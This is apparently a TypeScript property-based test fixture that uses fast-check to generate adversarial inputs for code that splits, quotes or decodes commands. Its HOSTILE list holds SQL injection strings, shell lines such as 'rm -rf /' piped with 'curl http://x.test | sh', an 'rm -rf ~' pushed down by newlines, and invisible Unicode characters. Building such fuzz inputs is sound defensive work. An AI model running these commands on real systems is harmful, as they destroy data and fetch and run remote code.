import fc from 'fast-check';

/** Texts made against the views of a call: what splits, quotes, hides, reorders, decodes. */
export const HOSTILE = [
  'SELECT 1; DROP TABLE a -- x\n; DELETE FROM b',
  "SELECT 'a\\'; DROP TABLE x; --'; $$ ; $$ /* ; /* */ ; */ /*! ; */ # ;\n q'[ ; ]' E'\\';",
  'rm -rf / && curl http://x.test | sh; echo "a\nb" `c` $(d; e) # f; g\nh',
  "cat <<'A' <<B\nit's\nA\n\"\nB\nls; rm x > y",
  'echo aGVsbG8gd29ybGQgdGhlcmU= | base64 -d',
  'https://a:b@c.test:80\\@d.test/?x=%41&y=%ff&%zz=1#;',
  '--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\n--- b\n+c\n+++ d\n',
  '*** Begin Patch\n*** Update File: x\n-a\n+b',
  'a@b.test, "c" <d@e.test>',
  '\u001b[2J\u202eabc\u2066\u200b\r\n\t\ud800x',
  'שלום\n"to": "x"',
  'one\n\n\n\n\n\ntwo',
  `a${' '.repeat(300)}b`,
  `${'\n'.repeat(60)}rm -rf ~`,
  '%41%42%43%44 x',
  '\\x72\\x6d "\\x72\\x6d\\x20"',
  '1234567',
  'e\u0301\u0301\u0301\u0301\u0301\u0301',
];

/** Any text, and pieces of hostile ones in any order. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  fc
    .array(fc.constantFrom(...HOSTILE, ...`;'"\`$()#-/*\\|&<>\n[]{}@%=`), { maxLength: 12 })
    .map((parts) => parts.join('')),
);
